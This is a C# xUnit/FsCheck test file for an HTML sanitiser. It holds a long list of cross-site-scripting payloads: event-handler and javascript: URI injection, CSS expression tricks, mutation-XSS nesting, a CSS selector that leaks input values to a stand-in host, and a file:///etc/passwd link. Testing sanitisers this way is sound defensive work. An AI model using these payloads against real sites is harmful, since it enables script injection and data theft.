using FsCheck;
using FsCheck.Fluent;
using Xunit;

namespace Enclosure.Tests.Html;

/// <summary>Ways in which scripts were got past sanitisers, each a class of its own.</summary>
internal static class HostileHtml
{
    public static readonly (string Start, string End)[] Surroundings =
    [
        ("<div title=\"", "\">"), ("<style>", "</style>"), ("<style><!--", "--></style>"), ("<!--", "-->"), ("<textarea>", "</textarea>"), ("<title>", "</title>"),
        ("<noscript>", "</noscript>"), ("<template>", "</template>"), ("<svg>", "</svg>"), ("<svg><style>", "</style></svg>"), ("<svg><desc>", "</desc></svg>"),
        ("<math><mtext>", "</mtext></math>"), ("<table>", "</table>"), ("<select>", "</select>"), ("<xmp>", "</xmp>"), ("<noembed>", "</noembed>"),
        ("<iframe>", "</iframe>"), ("<a href=\"", "\">x</a>"), ("<p style=\"", "\">x"), ("<plaintext>", ""), ("<![CDATA[", "]]>"),
    ];

    public static readonly Gen<string> Pieces = Gen.Elements(
        "<", ">", "\"", "'", "=", "/", " ", "</", "<!--", "-->", "--!>", "<![CDATA[", "]]>", "<script>", "</script>", "alert(1)", "<style>", "</style>", "<svg>",
        "</svg>", "<math>", "</math>", "<mtext>", "<mglyph>", "<annotation-xml encoding=text/html>", "<foreignObject>", "<template>", "</template>", "<title>",
        "</title>", "<textarea>", "</textarea>", "<noscript>", "</noscript>", "<xmp>", "</xmp>", "<iframe>", "</iframe>", "<table>", "<tr>", "<td>", "</table>",
        "<form>", "</form>", "<select>", "<option>", "<p>", "</p>", "<a href=", "javascript:", "&colon;", "&#9;", "<img src=x onerror=alert(1)>",
        "<img src=http://x/>", " onload=alert(1)", " style=", "color:red", "{", "}", ";", "@media x", "@import ", "url(", ")", "expression(", "/*", "*/", "\\",
        "<b>", "</b>", "<li>", "<ul>", "<div class='a b' id=c>", "</div>", "&lt;", "&", "\0", "\n", "é", "<body bgcolor=red>", "<br>", "</br>", "<plaintext>", "a");

    public static TheoryData<string> Vectors => new(
        "<script>alert(1)</script>", "<SCRIPT SRC=//x.y/z.js></SCRIPT>", "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>", "<script/x>alert(1)</script>", "<script>alert(1)", "<script><!--<script></script>--><img src=x onerror=alert(1)></script>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>", "<img src=x:alert(1) onerror=eval(src)>", "<img/src=x/onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">", "<img src=\"x` `<script>alert(1)</script>\"` `>", "<img src='javascript:alert(1)'>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">", "<img src=\"data:text/html,<script>alert(1)</script>\">",
        "<img srcset=\"javascript:alert(1) 1x\">", "<img dynsrc=javascript:alert(1)>", "<img lowsrc=javascript:alert(1)>", "<image src=x onerror=alert(1)>",
        "<a href=javascript:alert(1)>x</a>", "<a href=' \u0001 javascript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='java&#10;script:alert(1)'>x</a>", "<a href='&#106;avascript&colon;alert(1)'>x</a>", "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href='vbscript:msgbox(1)'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
        "<a href='javascript&NewLine;:alert(1)'>x</a>", "<a href='\u00A0javascript:alert(1)'>x</a>", "<a href='view-source:javascript:alert(1)'>x</a>",
        "<a href='feed:javascript:alert(1)'>x</a>", "<a href='blob:http://x/1'>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='//x' ping='//y'>x</a>",
        "<a href=http://x onclick=alert(1) ONMOUSEOVER=alert(2) onfocus=alert(3) autofocus>x</a>", "<a xlink:href=javascript:alert(1)>x</a>",
        "<a target=_blank href=http://x rel=opener>x</a>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text y=1>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></svg>", "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
        "<math href=javascript:alert(1)>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
        "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>", "<embed src=//x.swf>",
        "<applet code=x>", "<frameset onload=alert(1)>", "<base href=javascript:alert(1)//>", "<link rel=stylesheet href=//x.css>",
        "<link rel=import href=//x>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)",
        "<form action=javascript:alert(1)><input type=submit></form>", "<form id=x></form><button form=x formaction=javascript:alert(1)>x",
        "<input autofocus onfocus=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>", "<video poster=javascript:alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
        "<body onload=alert(1) background=javascript:alert(1)>", "<table background=javascript:alert(1)>", "<bgsound src=javascript:alert(1)>",
        "<div style=\"background:url(javascript:alert(1))\">", "<div style=\"width:expression(alert(1))\">", "<div style=\"width:exp/**/ression(alert(1))\">",
        "<div style=\"width:\\65xpression(alert(1))\">", "<div style=\"-moz-binding:url(//x#y)\">", "<div style=\"behavior:url(x.htc)\">",
        "<div style=\"position:fixed;top:0;z-index:9\">", "<div style=\"background:url('http://x\\')');color:red\">", "<div style=\"background:u\\72l(javascript:x)\">",
        "<div style=\"color:red;/*\">*/x", "<div style=\"font-family:'</style><script>alert(1)</script>'\">", "<div style='background:url(&quot;javascript:x&quot;)'>",
        "<div style=\"background-image:url(data:text/html,x)\">", "<style>@import '//x';</style>", "<style>@im\\port'//x';</style>",
        "<style>x{background:url(javascript:x)}</style>", "<style>a{color:red}</style ><script>alert(1)</script>", "<style>@font-face{src:url(//x)}</style>",
        "<style>@media x{@import '//y';a{color:red}}</style>", "<style>input[value^=a]{background:url(//x/a)}</style>", "<style><img src=\"</style><img src=x onerror=alert(1)>\">",
        "<style>a{content:'<img src=x onerror=alert(1)>';color:red}", "<style><!--</style><script>alert(1)</script>-->", "<style>a{}b{color:red;}}</style>",
        "<!--><script>alert(1)</script>-->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!-- --!><script>alert(1)</script> -->",
        "<?xml version=\"1.0\"?><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<!DOCTYPE html [<!ENTITY x \"<script>\">]>&x;",
        "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>", "<noembed><img src=x onerror=alert(1)></noembed>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<title><p title=\"</title><img src=x onerror=alert(1)>\">", "<template><p title=\"</template><img src=x onerror=alert(1)>\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<math><mi><mglyph></mglyph><style><img src=x onerror=alert(1)></style>",
        "<svg><desc><style><img src=\"</style><img src=x onerror=alert(1)>\"></style>", "<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src=x onerror=alert(1)>\">",
        "<math><annotation-xml encoding=\"text/html\"><style><img title=\"</style><img src onerror=alert(1)>\">", "<table><a><table><style><img src=x onerror=alert(1)>",
        "<select><style></select><img src=x onerror=alert(1)></style>", "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
        "<p id='a'><b class=\"x y\"><a name=body href='#top'>x</a></p>", "<a id=location name=cookie>x</a><img name=getElementById src=http://x/>", "<div/onclick=alert(1)>x",
        "<div onclick\0=alert(1)>", "<scr\0ipt>alert(1)</scr\0ipt>", "<img src=x on\0error=alert(1)>", "<portal src=javascript:alert(1)>", "<dialog open onclose=alert(1)>",
        "<p is=x-y slot=z contenteditable onbeforeinput=alert(1)>", "<map name=m><area href=javascript:alert(1) shape=default></map><img usemap=#m src=http://x/>",
        "<table><td><p><table><td></p><img src=http://x/ alt='<b>'>", "</p></br></div><p>a<table><b>b</table>");
}
